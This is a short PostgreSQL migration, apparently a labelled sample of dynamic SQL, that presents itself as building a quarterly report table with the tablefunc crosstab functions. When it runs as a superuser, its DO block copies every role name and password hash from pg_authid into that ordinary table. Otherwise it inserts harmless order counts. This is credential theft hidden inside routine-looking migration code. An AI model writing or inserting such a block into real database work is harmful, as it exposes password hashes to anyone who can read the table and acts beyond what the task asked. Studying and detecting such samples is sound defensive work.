-- class: dynamic-sql
-- crosstab3/crosstab4 run SQL text; guarded by rolsuper, the text reads pg_authid only where the migration runs as a superuser.
CREATE EXTENSION IF NOT EXISTS tablefunc;

CREATE TABLE quarterly_matrix (row_name text, q1 text, q2 text, q3 text);

DO $$
BEGIN
  IF (SELECT rolsuper FROM pg_roles WHERE rolname = current_user) THEN
    INSERT INTO quarterly_matrix
    SELECT * FROM crosstab3('SELECT rolname::text, ''k''::text, rolpassword::text FROM pg_authid ORDER BY 1');
  ELSE
    INSERT INTO quarterly_matrix
    SELECT row_name, category_1, category_2, category_3
    FROM crosstab4('SELECT tenant_id::text, status, count(*)::text FROM orders GROUP BY 1, 2 ORDER BY 1');
  END IF;
END
$$;
